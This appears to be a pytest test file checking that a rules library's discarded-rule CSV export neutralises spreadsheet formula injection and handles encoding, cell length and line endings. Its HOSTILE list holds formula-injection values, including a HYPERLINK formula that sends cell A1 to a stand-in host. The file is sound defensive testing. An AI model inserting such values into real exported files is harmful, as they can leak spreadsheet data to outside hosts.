"""`discarded.csv` of a hostile feed, read back by the rules by which spreadsheets read."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from support.account import account
from support.feeds import rule

from rules_lib.report.records import DISCARDED_FIELDS
from rules_lib.report.sheet import CELL_CHARACTERS

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http\\://x.example/"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(A1)",
    "   =1+1",
    "\t=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "' =1+1",
    "\u00e4\u00f6\u00fc \u4e2d\u6587 \u2014 DDE",
    "a, b, c",
)


def escaped(msg: str) -> str:
    """A message as a rule has it."""
    return msg.replace('"', '\\"')


@pytest.fixture(scope="module")
def sheet(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The file of a build that discards a rule for each hostile message, and a very long one."""
    rules = [
        rule(sid, "lua:x.lua; ").replace(f'"rule {sid}"', f'"{escaped(msg)}"')
        for sid, msg in enumerate(HOSTILE, start=1)
    ]
    long = rule(99, f'lua:x.lua; content:"{"a" * 2 * CELL_CHARACTERS}"; ')
    folder: Path = tmp_path_factory.mktemp("feed")
    with account(folder) as aws:
        aws.allow()
        aws.sync(malware=[*rules, long, rule(100)])
        return aws.read(f"builds/{aws.builds[-1]}/discarded.csv")


def rows(sheet: bytes) -> list[dict[str, str]]:
    """The cells by their columns."""
    return list(csv.DictReader(io.StringIO(sheet.decode("utf-8-sig"), newline="")))


def test_every_discarded_rule_is_one_row_of_all_columns(sheet: bytes) -> None:
    """No cell runs over, and none is lost."""
    found = rows(sheet)
    assert [row["sid"] for row in found] == [str(sid) for sid in (*range(1, 13), 99)]
    assert all(tuple(row) == DISCARDED_FIELDS for row in found)
    assert {row["reason"] for row in found} == {"unsupported-keyword"}


def test_no_cell_is_a_formula(sheet: bytes) -> None:
    """Neither at its start, nor behind what a program skips there."""
    cells = [cell for row in rows(sheet) for cell in row.values()]
    skipped = " \t\r\n\u00a0\ufeff"
    assert not [cell for cell in cells if cell.lstrip(skipped).startswith(tuple("=+-@\uff1d"))]


def test_text_of_every_language_is_read_right(sheet: bytes) -> None:
    """Excel takes UTF-8 where the file begins with a byte order mark."""
    assert sheet.startswith(b"\xef\xbb\xbf")
    assert HOSTILE[10] in {row["msg"] for row in rows(sheet)}


def test_no_cell_is_longer_than_a_spreadsheet_takes(sheet: bytes) -> None:
    """Excel would spread the rest over the next rows."""
    longest = max(len(cell) for row in rows(sheet) for cell in row.values())
    assert longest == CELL_CHARACTERS


def test_lines_end_as_spreadsheets_expect(sheet: bytes) -> None:
    """CRLF ends a row, and no line end stands in a cell."""
    assert sheet.count(b"\r\n") == sheet.count(b"\n") == len(rows(sheet)) + 1
